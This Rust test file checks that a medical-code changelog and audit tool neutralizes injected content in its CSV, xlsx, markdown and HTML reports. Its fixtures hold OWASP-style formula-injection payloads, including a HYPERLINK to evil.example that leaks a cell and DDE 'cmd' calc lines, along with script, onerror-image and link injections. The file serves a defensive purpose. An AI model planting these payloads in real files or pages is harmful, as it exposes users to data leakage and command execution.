//! Descriptions and audited files written to do harm when a report is opened: formulas in a
//! spreadsheet (CSV and xlsx changelogs, audit CSV), links and raw HTML in a markdown
//! changelog. Each is shown as the text it is, never run or rendered.

use calamine::{Data, Reader, Xlsx};

use crate::util::{Work, fixture, unzip};

/// The 2006 fixture text with the first description line of each `(code, text)` replaced
/// (padded to the layout's 80 columns), so that its long description begins with `text`.
fn release_with(descriptions: &[(&str, &str)]) -> String {
    let name = "HCPC2006_CONTR_ANWEB.txt";
    let text = std::fs::read_to_string(fixture("oxygen/2006").join(name)).unwrap();
    let mut edited = 0;
    let lines: Vec<String> = text
        .split("\r\n")
        .map(|line| {
            for (code, new) in descriptions {
                if line.starts_with(&format!("{code}001")) {
                    assert!(new.len() <= 80, "{new}");
                    edited += 1;
                    return format!("{}{new:<80}{}", &line[..11], &line[91..]);
                }
            }
            line.to_string()
        })
        .collect();
    assert_eq!(edited, descriptions.len());
    lines.join("\r\n")
}

/// A store holding the 2005 fixture and the 2006 one with `descriptions`.
fn store_with(descriptions: &[(&str, &str)]) -> Work {
    let work = Work::with(&[fixture("oxygen/2005")]);
    let file = work.write("HCPC2006_CONTR_ANWEB.txt", release_with(descriptions));
    work.cmd().arg("import").arg(file).assert().success();
    work
}

/// Formulas as OWASP's CSV-injection examples write them, one per leading character.
const FORMULAS: [(&str, &str); 4] = [
    (
        "E0431",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Error: click for details\")",
    ),
    ("E1390", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("E1392", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("K0738", "-2+3+cmd|' /C calc'!A0"),
];

/// What a spreadsheet program would evaluate: a cell beginning with `=`, `+`, `-`, `@`, a tab
/// or a carriage return that is not a plain number.
fn evaluated(cell: &str) -> bool {
    let number = cell.trim_start_matches(['+', '-']).parse::<f64>().is_ok()
        && !cell.contains(['e', 'E', 'i', 'I', 'n', 'N']);
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
}

fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// The CSV changelog quotes every formula with a leading `'`, so that a spreadsheet shows it as
/// text; dates and the other cells are as they were.
#[test]
fn a_csv_changelog_neutralizes_formulas_in_descriptions() {
    let work = store_with(&FORMULAS);
    let out = work
        .cmd()
        .args(["diff", "2005-01", "2006-01", "--format", "csv"])
        .assert()
        .code(1);
    let rows = csv_cells(&out.get_output().stdout);
    for row in &rows {
        for cell in row {
            assert!(!evaluated(cell), "a spreadsheet would run {cell:?}");
        }
    }
    for (code, formula) in FORMULAS {
        let row = rows.iter().find(|r| r[2] == code).unwrap();
        assert!(row[3].starts_with(&format!("'{formula}")), "{row:?}");
    }
    // The added code's date is a date, untouched.
    let added = rows.iter().find(|r| r[2] == "E1392").unwrap();
    assert!(added.iter().any(|c| c == "2006-01-01"), "{added:?}");
}

/// `audit --format csv` echoes the user's own columns and header: a formula there is quoted
/// too, while a negative amount stays the number it is.
#[test]
fn an_audit_csv_neutralizes_formulas_in_the_users_columns_and_descriptions() {
    let work = store_with(&FORMULAS);
    let claims = work.write(
        "claims.csv",
        "claim,HCPCS,@total,note\n\
         c1,E0431,-12.50,\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"\n\
         c2,E1392,+3,-cmd|' /C calc'!A0\n\
         c3,E1390,.5,@SUM(A1)\n",
    );
    let out = work
        .cmd()
        .args(["audit", "--format", "csv"])
        .arg(&claims)
        .assert()
        .code(1);
    let rows = csv_cells(&out.get_output().stdout);
    for row in &rows {
        for cell in row {
            assert!(!evaluated(cell), "a spreadsheet would run {cell:?}");
        }
    }
    // The user's columns but the code's (which `given` holds) come first.
    assert_eq!(rows[0][1], "'@total");
    let c1 = &rows[1];
    assert_eq!(c1[1], "-12.50", "a negative amount is a number: {c1:?}");
    assert_eq!(c1[2], "'=HYPERLINK(\"http://evil.example\",\"x\")");
    assert!(
        c1.iter()
            .any(|c| c.starts_with("'=HYPERLINK(\"http://evil.example/?\""))
    );
    assert_eq!(rows[2][1], "+3");
    assert_eq!(rows[2][2], "'-cmd|' /C calc'!A0");
    assert_eq!(rows[3][2], "'@SUM(A1)");
}

/// The xlsx changelog writes every cell but its counts of codes as a string in a
/// text-formatted cell, which Excel never evaluates; a formula-like one also gets Excel's quote prefix, so that it stays text
/// when edited, and it reads back exactly as written (no `'` in the value).
#[test]
fn an_xlsx_changelog_keeps_formulas_as_quote_prefixed_text() {
    let work = store_with(&FORMULAS);
    let path = work.path("changes.xlsx");
    work.cmd()
        .args(["diff", "2005-01", "2006-01", "--format", "xlsx", "--output"])
        .arg(&path)
        .assert()
        .code(1);
    let members = unzip(&path);
    let part = |name: &str| {
        let (_, bytes) = members.iter().find(|(n, _)| n == name).unwrap();
        String::from_utf8(bytes.clone()).unwrap()
    };
    // The cell formats (`<xf>` in `<cellXfs>`) that carry the quote prefix, by index.
    let styles = part("xl/styles.xml");
    let xfs = &styles[styles.find("<cellXfs").unwrap()..styles.find("</cellXfs>").unwrap()];
    let quoted: Vec<usize> = regex::Regex::new(r"<xf [^>]*?(/>|>.*?</xf>)")
        .unwrap()
        .find_iter(xfs)
        .enumerate()
        .filter(|(_, m)| m.as_str().contains(r#"quotePrefix="1""#))
        .map(|(i, _)| i)
        .collect();
    assert!(!quoted.is_empty(), "{xfs}");
    let tags = regex::Regex::new(r"<[^>]*>").unwrap();
    let shared: Vec<String> = regex::Regex::new(r"(?s)<si>.*?</si>")
        .unwrap()
        .find_iter(&part("xl/sharedStrings.xml"))
        .map(|m| {
            let s = tags.replace_all(m.as_str(), "").to_string();
            s.replace("&quot;", "\"")
                .replace("&amp;", "&")
                .replace("&apos;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
        })
        .collect();
    let cell =
        regex::Regex::new(r#"<c r="[A-Z]+\d+"( s="(\d+)")?( t="(\w+)")?>(.*?)</c>"#).unwrap();
    let number = regex::Regex::new(r"<v>(\d+)</v>").unwrap();
    let mut formulas = 0;
    for (name, bytes) in &members {
        if !name.starts_with("xl/worksheets/") {
            continue;
        }
        let xml = String::from_utf8(bytes.clone()).unwrap();
        assert!(
            !xml.contains("<f>") && !xml.contains("<f "),
            "a formula in {name}"
        );
        for c in cell.captures_iter(&xml) {
            // Counts of codes are numbers, on the summary's and the by-section sheets alone.
            if c.get(4).is_none() {
                let counts = ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"];
                assert!(counts.contains(&name.as_str()), "{name}: {}", &c[0]);
                assert!(number.is_match(&c[5]), "{}", &c[0]);
                continue;
            }
            assert_eq!(c.get(4).map(|t| t.as_str()), Some("s"), "{}", &c[0]);
            let index: usize = number.captures(&c[5]).unwrap()[1].parse().unwrap();
            let style: usize = c.get(2).map_or(0, |s| s.as_str().parse().unwrap());
            let value = &shared[index];
            let formula_like = value.starts_with(['=', '+', '-', '@']);
            formulas += usize::from(formula_like);
            assert_eq!(
                quoted.contains(&style),
                formula_like,
                "{name}: {value:?} style {style}"
            );
        }
    }
    assert!(formulas >= FORMULAS.len(), "{formulas}");
    // Read back, each description is exactly what CMS's file said.
    let mut book: Xlsx<_> = calamine::open_workbook(&path).unwrap();
    let sheets = book.sheet_names();
    let mut seen = Vec::new();
    for sheet in sheets {
        let range = book.worksheet_range(&sheet).unwrap();
        for row in range.rows() {
            if let (Some(Data::String(code)), Some(Data::String(description))) =
                (row.get(2), row.get(3))
            {
                seen.push((code.clone(), description.clone()));
            }
        }
    }
    for (code, formula) in FORMULAS {
        assert!(
            seen.iter()
                .any(|(c, d)| c == code && d.starts_with(formula)),
            "{code}: {seen:?}"
        );
    }
}

/// Descriptions written to inject HTML, links and images into a markdown changelog.
const MARKUP: [(&str, &str); 4] = [
    (
        "E0431",
        "<code><script>alert(1)</script></code> Portable gaseous oxygen system",
    ),
    ("E1390", "<!-- everything below is hidden from reviewers"),
    (
        "E1392",
        "[Click here](http://evil.example) ![x](http://evil.example/i.png) *bold*",
    ),
    (
        "K0738",
        "<img src=x onerror=alert(1)> http://evil.example www.evil.example &lt;b&gt;",
    ),
];

/// What GitHub's renderer would make of `markdown`, as pulldown-cmark (CommonMark with
/// tables and strike-through) reads it: the raw HTML, the links other than the document's own
/// anchors, the images, and the text shown.
fn rendered(markdown: &str) -> (Vec<String>, Vec<String>, usize, String) {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let (mut html, mut links, mut images, mut text) = (Vec::new(), Vec::new(), 0, String::new());
    for event in Parser::new_ext(markdown, options) {
        match event {
            Event::Html(h) | Event::InlineHtml(h) => html.push(h.to_string()),
            Event::Start(Tag::Link { dest_url, .. }) if !dest_url.starts_with('#') => {
                links.push(dest_url.to_string())
            }
            Event::Start(Tag::Image { .. }) => images += 1,
            Event::Text(t) | Event::Code(t) => text.push_str(&t),
            _ => {}
        }
    }
    (html, links, images, text)
}

/// The markdown changelog, `history --format markdown` and `audit --format markdown` show a
/// description's HTML, comments, links and images as the text they are: no HTML reaches the
/// document (but the `<details>` the changelog itself folds with), no link leaves it, no image
/// loads.
#[test]
fn markdown_reports_show_html_and_links_in_descriptions_as_text() {
    let work = store_with(&MARKUP);
    work.write("watch.txt", "E0431\nE1390\nE1392\nK0738\n");
    let runs: [&[&str]; 4] = [
        &["diff", "2005-01", "2006-01", "--format", "markdown"],
        &["history", "E0431", "--format", "markdown"],
        &["history", "K0738", "--format", "markdown"],
        &["audit", "watch.txt", "--format", "markdown"],
    ];
    for args in runs {
        let out = work.cmd().current_dir(work.dir.path()).args(args).assert();
        let markdown = String::from_utf8(out.get_output().stdout.clone()).unwrap();
        let (html, links, images, text) = rendered(&markdown);
        let ours = ["<details>", "<summary>", "</summary>", "</details>"];
        let foreign: Vec<&String> = html
            .iter()
            .filter(|h| !ours.iter().any(|o| h.trim_start().starts_with(o)))
            .collect();
        assert!(
            foreign.is_empty(),
            "{args:?}: raw HTML {foreign:?}\n{markdown}"
        );
        assert!(links.is_empty(), "{args:?}: links {links:?}\n{markdown}");
        assert_eq!(images, 0, "{args:?}\n{markdown}");
        let shown: Vec<&str> = match args[0] {
            "history" => MARKUP
                .iter()
                .filter(|(code, _)| *code == args[1])
                .map(|(_, d)| *d)
                .collect(),
            _ => MARKUP.iter().map(|(_, d)| *d).collect(),
        };
        for description in shown {
            // Word by word: a changed description's words are marked apart.
            for word in description.split(' ') {
                assert!(
                    text.contains(word),
                    "{args:?}: {word:?} not shown\n{markdown}"
                );
            }
        }
    }
    let out = work
        .cmd()
        .args(["diff", "2005-01", "2006-01", "--format", "markdown"])
        .assert();
    let (.., text) = rendered(&String::from_utf8_lossy(&out.get_output().stdout));
    assert!(text.contains("<script>alert(1)</script>"), "{text}");
    assert!(text.contains("[Click here](http://evil.example)"), "{text}");
    // The HTML reports escape it all too (a detail line holding `<code>` is no exception).
    for args in [
        &["audit", "watch.txt", "--format", "html"][..],
        &["diff", "2005-01", "2006-01", "--format", "html"],
    ] {
        let out = work.cmd().current_dir(work.dir.path()).args(args).assert();
        let html = String::from_utf8_lossy(&out.get_output().stdout).into_owned();
        for raw in ["<script>", "<img", "<!-- everything"] {
            assert!(!html.contains(raw), "{args:?}: {raw} in\n{html}");
        }
    }
}
